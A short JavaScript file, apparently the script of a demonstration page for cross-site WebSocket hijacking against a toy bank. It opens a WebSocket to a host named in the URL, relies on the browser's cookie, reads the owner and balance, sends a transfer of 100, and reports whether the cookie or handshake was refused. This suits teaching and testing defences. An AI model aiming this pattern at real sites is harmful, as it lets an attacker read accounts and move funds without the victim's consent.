// What a page needs to use somebody else's login: nothing but the address. The browser adds the cookie.

const bank = new URLSearchParams(location.search).get("bank");
document.querySelector("#target").textContent = `"ws://${bank}/account"`;
const socket = new WebSocket(`ws://${bank}/account`);
let asked = false;

function show(text, className) {
  const item = document.createElement("li");
  Object.assign(item, { textContent: text, className });
  document.querySelector("#got").append(item);
}

socket.onmessage = ({ data }) => {
  const { owner, balance } = JSON.parse(data);
  show(asked ? `Took 100. Left: ${balance}` : `Read: ${owner} has ${balance}`, "stolen");
  if (!asked) socket.send(JSON.stringify({ transfer: 100 }));
  asked = true;
};
socket.onclose = ({ code, reason }) => {
  if (code === 3000) show(`Got nothing: the cookie did not come along (“${reason}”)`, "refused");
  if (code === 1006) show("Got nothing: the handshake was refused", "refused");
};
